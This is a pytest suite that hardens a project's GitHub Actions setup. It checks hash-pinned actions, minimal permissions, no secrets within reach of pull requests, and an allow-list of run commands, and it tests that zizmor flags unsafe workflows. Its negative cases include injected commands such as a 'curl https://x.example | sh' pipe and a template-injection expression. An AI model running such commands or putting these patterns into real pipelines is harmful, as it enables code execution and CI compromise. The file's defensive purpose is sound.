"""What GitHub runs: sound by the tools of the field, and by what we promise of it.  Nothing here asks the network."""

import re
import shlex
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from invoke.collection import Collection
from invoke.exceptions import ParseError
from invoke.parser import Parser
from ruamel.yaml import YAML

import tasks
from tests.conftest import ROOT
from tests.tiny_site import write
from workshop import pango, proofreader
from workshop.needed import OF_TESTS, PROGRAMS
from workshop.publishing.git import environment
from workshop.requirements import LOCKS

GITHUB = ROOT / ".github"
WORKFLOWS = {file.name: file for file in sorted((GITHUB / "workflows").iterdir())}
ACTIONS = sorted(GITHUB.glob("actions/*/action.yml"))
SCHEMAS = {
    "vendor.github-workflows": [*WORKFLOWS.values()],
    "custom.github-workflows-require-timeout": [*WORKFLOWS.values()],
    "vendor.github-actions": ACTIONS,
    "vendor.dependabot": [GITHUB / "dependabot.yml"],
}

# What is no task: programs of the system, by their names alone.
INSTALLING = re.compile(
    r"sudo apt-get (update --quiet|install --yes --quiet --no-install-recommends( [a-z0-9][a-z0-9.+-]+)+)"
)


def read(file: Path) -> Any:
    # 1.2, where « on » is a word.
    return YAML(typ="safe").load(file)


def run(program: str, *arguments: str) -> "subprocess.CompletedProcess[str]":
    """A program that is installed beside this Python."""
    found = shutil.which(program, path=str(Path(sys.executable).parent))
    assert found, f"{program} is not installed: python3 tasks.py test"
    return subprocess.run([found, *arguments], capture_output=True, text=True)


# --- The tools of the field ---


def zizmor(place: Path) -> "subprocess.CompletedProcess[str]":
    """Everything that it finds, the smallest too."""
    options = ("--offline", "--pedantic", "--strict-collection", "--no-progress", "--quiet")
    return run("zizmor", *options, "--config", str(GITHUB / "zizmor.yml"), str(place))


def fits(schema: str, *files: Path) -> "subprocess.CompletedProcess[str]":
    return run("check-jsonschema", "--builtin-schema", schema, *map(str, files))


def test_zizmor_finds_nothing():
    found = zizmor(GITHUB)

    assert found.returncode == 0, found.stdout + found.stderr


@pytest.mark.parametrize("schema", SCHEMAS)
def test_each_file_fits_its_schema(schema: str):
    found = fits(schema, *SCHEMAS[schema])

    assert found.returncode == 0, found.stdout


SOUND = """\
name: Essai
on:
  push:
permissions: {}
concurrency:
  group: essai
  cancel-in-progress: true
jobs:
  essai:
    name: Essai
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    steps:
      - name: Sources
        uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
        with:
          persist-credentials: false
      - name: Salut
        run: echo "$TITLE"
"""


def spoiled(folder: Path, was: str, now: str) -> Path:
    assert was in SOUND
    return write(folder, ".github/workflows/essai.yml", SOUND.replace(was, now))


def test_a_sound_workflow_passes(tmp_path: Path):
    file = spoiled(tmp_path, "", "")

    assert zizmor(tmp_path).returncode == 0
    assert [fits(schema, file).returncode for schema in list(SCHEMAS)[:2]] == [0, 0]


@pytest.mark.parametrize(
    ("was", "now", "rule"),
    [
        ("@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0", "@v5", "unpinned-uses"),
        ("permissions: {}\n", "", "excessive-permissions"),
        ("persist-credentials: false", "fetch-depth: 0", "artipacked"),
        ("  push:", "  pull_request_target:", "dangerous-triggers"),
        ('"$TITLE"', "${{ github.event.pull_request.title }}", "template-injection"),
        ("concurrency:\n  group: essai\n  cancel-in-progress: true\n", "", "concurrency-limits"),
    ],
)
def test_zizmor_sees_what_is_unsafe(tmp_path: Path, was: str, now: str, rule: str):
    spoiled(tmp_path, was, now)

    found = zizmor(tmp_path)

    assert found.returncode != 0
    assert f"[{rule}]" in found.stdout


def test_zizmor_sees_a_dependency_that_is_taken_at_once(tmp_path: Path):
    text = (
        (GITHUB / "dependabot.yml").read_text(encoding="utf-8").replace("default-days: 7", "default-days: 1")
    )
    write(tmp_path, ".github/dependabot.yml", text)

    assert "[dependabot-cooldown]" in zizmor(tmp_path).stdout


@pytest.mark.parametrize(
    ("schema", "text", "told"),
    [
        ("vendor.github-workflows", SOUND.replace("runs-on", "runs-in"), "runs-in"),
        ("custom.github-workflows-require-timeout", SOUND.replace("    timeout-minutes: 5\n", ""), "timeout"),
        ("vendor.github-actions", "name: Essai\nruns:\n  using: composite\n", "description"),
        (
            "vendor.dependabot",
            "version: 2\nupdates:\n  - package-ecosystem: pip\n    directory: /\n",
            "schedule",
        ),
    ],
)
def test_a_schema_sees_what_is_wrong(tmp_path: Path, schema: str, text: str, told: str):
    found = fits(schema, write(tmp_path, "essai.yml", text))

    assert found.returncode != 0
    assert told in found.stdout


# --- What we promise ---


def jobs(workflow: Any) -> dict[str, Any]:
    found: dict[str, Any] = workflow["jobs"]
    return found


def steps(document: Any) -> list[Any]:
    """Of a workflow or of an action."""
    if "runs" in document:
        return list(document["runs"]["steps"])
    return [step for job in jobs(document).values() for step in job.get("steps", ())]


def unpinned(text: str) -> list[str]:
    """Actions of others that are not named by a whole hash, with their version beside."""
    used = re.findall(r"uses: *(\S+)(.*)", text)
    pinned = re.compile(r"[\w./-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+")
    return [name for name, rest in used if not name.startswith("./") and not pinned.fullmatch(name + rest)]


def reaches_a_secret(text: str) -> list[str]:
    return re.findall(r"secrets\b|github\.token|pull_request_target|workflow_run\b|id-token", text)


def may_write(workflow: Any) -> set[str]:
    """The jobs that may write anything."""
    return {
        name
        for name, job in jobs(workflow).items()
        if job.get("permissions") == "write-all" or "write" in dict(job.get("permissions") or {}).values()
    }


@pytest.mark.parametrize("file", [*WORKFLOWS.values(), *ACTIONS], ids=lambda file: file.name)
def test_every_action_is_named_by_its_hash(file: Path):
    assert unpinned(file.read_text(encoding="utf-8")) == []


def test_an_action_that_is_not_is_seen():
    assert unpinned("uses: actions/cache@v4") == ["actions/cache@v4"]
    assert unpinned(f"uses: actions/cache@{'a' * 40}") == [f"actions/cache@{'a' * 40}"]
    assert unpinned(f"uses: actions/cache@{'a' * 39} # v4.3.0") == [f"actions/cache@{'a' * 39}"]
    assert unpinned(f"uses: actions/cache@{'a' * 40} # v4.3.0\nuses: ./.github/x") == []


@pytest.mark.parametrize("name", WORKFLOWS)
def test_nothing_is_permitted_but_to_the_job_that_needs_it(name: str):
    workflow = read(WORKFLOWS[name])

    assert workflow["permissions"] == {}
    assert all("permissions" in job for job in jobs(workflow).values())


def test_only_what_publishes_may_write():
    writing = {name: may_write(read(file)) for name, file in WORKFLOWS.items()}

    assert writing == {"nightly.yml": {"publish"}, "publish.yml": {"publish"}, "pull-request.yml": set()}
    assert may_write(
        {"jobs": {"a": {"permissions": "write-all"}, "b": {"permissions": {"pages": "write"}}}}
    ) == {*"ab"}


def test_nothing_secret_is_within_reach_of_a_proposal():
    workflow = read(WORKFLOWS["pull-request.yml"])

    assert list(workflow["on"]) == ["pull_request"]
    assert reaches_a_secret(WORKFLOWS["pull-request.yml"].read_text(encoding="utf-8")) == []
    assert [name for action in ACTIONS for name in reaches_a_secret(action.read_text(encoding="utf-8"))] == []
    assert reaches_a_secret("${{ secrets.KEY }} ${{ github.token }}") == ["secrets", "github.token"]


def test_a_proposal_has_nothing_to_put_into_the_caches_of_a_publication():
    """GitHub keeps what a pull request caches for that request; here no name of a cache tells them apart."""
    assert "pull_request" not in read(WORKFLOWS["publish.yml"])["on"]


def test_the_schedule_is_in_a_file_of_its_own():
    scheduled = [name for name, file in WORKFLOWS.items() if "schedule" in read(file)["on"]]

    assert scheduled == ["nightly.yml"]
    assert set(read(WORKFLOWS["nightly.yml"])["on"]) == {"schedule", "workflow_dispatch"}


def test_one_publication_runs_at_a_time_and_none_is_cut_off():
    job = jobs(read(WORKFLOWS["publish.yml"]))["publish"]

    assert job["concurrency"] == {"group": "publication", "cancel-in-progress": False}
    # The same name around it would let the call wait for itself.
    assert read(WORKFLOWS["nightly.yml"])["concurrency"]["group"] != job["concurrency"]["group"]


# --- The commands ---


def commands(document: Any) -> Iterator[str]:
    for step in steps(document):
        yield from (line for line in step.get("run", "").splitlines() if line.strip())


ALL_COMMANDS = sorted({line for file in [*WORKFLOWS.values(), *ACTIONS] for line in commands(read(file))})


def is_task(line: str) -> bool:
    """« python3 tasks.py » with a task that exists, and options that it has."""
    words = shlex.split(line)
    if words[:2] != ["python3", "tasks.py"]:
        return False
    try:
        found = Parser(contexts=Collection.from_module(tasks).to_contexts()).parse_argv(words[2:])
    except ParseError:
        return False
    return len(found) == 1


@pytest.mark.parametrize("line", ALL_COMMANDS)
def test_every_command_is_a_task_or_installs_a_program(line: str):
    assert is_task(line) or INSTALLING.fullmatch(line)


@pytest.mark.parametrize(
    "line",
    [
        "python3 tasks.py publier",
        "python3 tasks.py publish --force",
        "python3 tasks.py publish && curl https://x.example",
        "sudo apt-get update --quiet; curl https://x.example | sh",
    ],
)
def test_a_command_that_is_none_is_seen(line: str):
    assert not is_task(line) and not INSTALLING.fullmatch(line)


def test_the_programs_that_are_installed_are_those_that_the_tasks_look_for():
    installed = {
        name: {word for line in commands(read(file)) if " install " in line for word in shlex.split(line)[6:]}
        for name, file in WORKFLOWS.items()
    }

    assert installed["publish.yml"] == set(pango.DEBIAN)
    assert installed["pull-request.yml"] == {
        *pango.DEBIAN,
        proofreader.PACKAGE,
        *(package for program in OF_TESTS for package in PROGRAMS[program].packages),
    }


def test_the_locks_that_the_caches_are_named_after_exist():
    named = {
        name
        for file in WORKFLOWS.values()
        for step in steps(read(file))
        for name in step.get("with", {}).get("requirements", "").split()
    }

    assert named == {f"{name}.txt" for name in LOCKS}
    assert all((ROOT / name).is_file() for name in named)


def test_git_finds_the_password_in_the_step_that_publishes_and_nowhere_else():
    given = [step for step in steps(read(WORKFLOWS["publish.yml"])) if "env" in step]
    assert [step["run"] for step in given] == ["python3 tasks.py publish"]
    variables = {name: str(value) for name, value in given[0]["env"].items()}

    def asked(host: str) -> str:
        fill = subprocess.run(
            ["git", "credential", "fill"],
            env={**environment(), **variables, "TOKEN": "mot-d-essai", "GIT_CONFIG_GLOBAL": "/dev/null"},
            input=f"protocol=https\nhost={host}\n\n",
            capture_output=True,
            text=True,
        )
        return fill.stdout

    assert "username=x-access-token\npassword=mot-d-essai\n" in asked("github.com")
    assert "mot-d-essai" not in asked("ailleurs.example")


def test_dependabot_watches_every_lock_and_every_action():
    watched = {
        (update["package-ecosystem"], folder)
        for update in read(GITHUB / "dependabot.yml")["updates"]
        for folder in update.get("directories", [update.get("directory")])
    }

    assert watched == {
        ("pip", "/"),
        ("npm", "/bench/lighthouse"),
        ("github-actions", "/"),
        *(("github-actions", f"/{action.parent.relative_to(ROOT).as_posix()}") for action in ACTIONS),
    }
